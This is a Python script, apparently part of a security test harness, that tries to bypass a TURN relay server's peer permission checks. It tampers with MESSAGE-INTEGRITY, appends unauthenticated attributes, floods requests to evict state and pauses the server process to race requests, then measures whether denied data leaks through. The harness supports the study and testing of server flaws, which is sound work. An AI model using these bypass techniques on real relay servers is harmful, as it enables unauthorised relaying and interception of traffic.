#!/usr/bin/python3
"""attack.py, and a client that wants to reach a peer which the server denies it.

Besides attack.py's commands:

  smuggle CLIENT HOW NUMBER GOOD BAD PID
                                        has the server (PID) bind NUMBER to the peer GOOD, and the kernel read
                                        BAD, if it can be had; HOW is as in `requests`. What the server said
                                        (0: success): said
  mistake CLIENT NUMBER GOOD BAD        client and good peer, and bad and good peer, send the same at the same time,
                                        and then the bad one its secrets, of which the client got: stray
"""
import os
import signal
import struct
import sys

sys.dont_write_bytecode = True

# ruff: noqa: E402
import attack
import turn
from attack import HIDDEN, SOFTWARE, SUCCESS, UNHEARD, heard, until, wires
from turn import (DATA, METHODS, PEER, attribute, bind_attributes, clients, endpoint, error_code, message, parse, payload,
                  peers, xored)


def unsigned(data):
    """The same request with a MESSAGE-INTEGRITY that is wrong."""
    return data[:-20] + bytes(byte ^ 0x55 for byte in data[-20:])


def behind(data, more):
    """The same with attributes that MESSAGE-INTEGRITY does not cover."""
    return data[:2] + struct.pack("!H", len(data) + len(more) - 20) + data[4:] + more


def requests(client, how, number, good, bad):
    """The requests, all of one transaction, and how to send each: {} for the socket, else by the wire."""
    transaction = os.urandom(12)

    def ask(attributes):
        return client.asks("bind", attributes, transaction)

    number_is, good_is, bad_is = bind_attributes(number, good)[:8], attribute(PEER, xored(*good)), \
        attribute(PEER, xored(*bad))
    allowed, denied = ask(number_is + good_is), ask(number_is + bad_is)
    other_number = bind_attributes(number + 1, good)[:8]
    first, _, second = how.partition("+")
    if first in HIDDEN or first == "other-device":
        pair = [(HIDDEN.get(first, {"by": "other"}), allowed), (UNHEARD.get(second, {"ttl": 64}), denied)]
        return pair[::-1] if second == "last" else pair
    if first in UNHEARD:
        return [(UNHEARD[first], denied), ({}, allowed)]
    if first == "jumbo":                         # longer than what is read of a message
        pair = [({"ttl": 64}, data) for data in (ask(number_is + good_is + attribute(SOFTWARE, b"x" * 2100)), denied)]
        return pair[::-1] if second == "last" else pair
    if how == "evicted":                         # eight more requests push the first out of the allocation's memory
        others = [unsigned(client.asks("refresh", b"", os.urandom(12))) for _ in range(8)]
        return [({"ttl": 64}, data) for data in (allowed, *others, unsigned(denied))]
    return [({}, data) for data in {
        "both-valid": (denied, allowed), "both-valid-denied-last": (allowed, denied),
        "denied-unsigned": (unsigned(denied), allowed), "denied-unsigned-last": (allowed, unsigned(denied)),
        "allowed-unsigned": (unsigned(allowed), denied), "allowed-unsigned-last": (denied, unsigned(allowed)),
        "two-peers": (ask(number_is + bad_is + good_is),),
        "two-peers-denied-last": (ask(number_is + good_is + bad_is),),
        "two-numbers": (ask(number_is + other_number + bad_is), ask(other_number + number_is + good_is)),
        "behind-integrity": (behind(denied, good_is),), "behind-integrity-denied": (behind(allowed, bad_is),),
        "trailing-bytes": (denied + good_is, allowed), "trailing-bytes-allowed": (allowed + bad_is, allowed)}[how]]


def stop(process):
    """And waits until all its threads have stopped."""
    os.kill(process, signal.SIGSTOP)
    for thread in os.listdir(f"/proc/{process}/task"):
        state = ""
        while state != "T":
            with open(f"/proc/{process}/task/{thread}/stat", encoding="ascii") as stat:
                state = stat.read().rpartition(") ")[2][0]


def do_smuggle(name, how, number, good, bad, server):
    """The server is busy meanwhile: of two requests, both have passed the kernel before either is answered."""
    client = clients[name]
    stop(int(server))
    for path, data in requests(client, how, int(number, 0), endpoint(good), endpoint(bad)):
        if path:
            wires[path.get("by", name)].send(client.sock.getsockname(), client.server, data,
                                             **{word: is_ for word, is_ in path.items() if word != "by"})
        else:
            client.send(data, client.server)
    os.kill(int(server), signal.SIGCONT)
    said = [parse(data) for data in heard(client)]
    return {"ok": True, "said": [0 if kind & 0x0110 == SUCCESS else error_code(found) for kind, _, found in said]}


def do_mistake(name, number, good, bad):
    client, good, bad, number = clients[name], peers[good], peers[bad], int(number, 0)
    to_good = attribute(PEER, xored(*good.sock.getsockname()))
    for _ in range(3):
        data = payload(100)
        client.send(client.data(number, data), client.server)
        client.send(message(0x0010 | METHODS["send"], os.urandom(12), to_good + attribute(DATA, data)), client.server)
        until(good, lambda got: got == data)
        data = payload(100)
        bad.send(data, client.relay)
        good.send(data, client.relay)
        until(client, lambda got: data in got)
    secrets, last = [payload(100) for _ in range(10)], payload(100)
    for data in secrets:
        bad.send(data, client.relay)
    good.send(last, client.relay)
    got = until(client, lambda got: last in got)
    return {"ok": True, "stray": sum(secret in data for secret in secrets for data in got)}


if __name__ == "__main__":
    turn.main({**vars(turn), **vars(attack), **globals()})
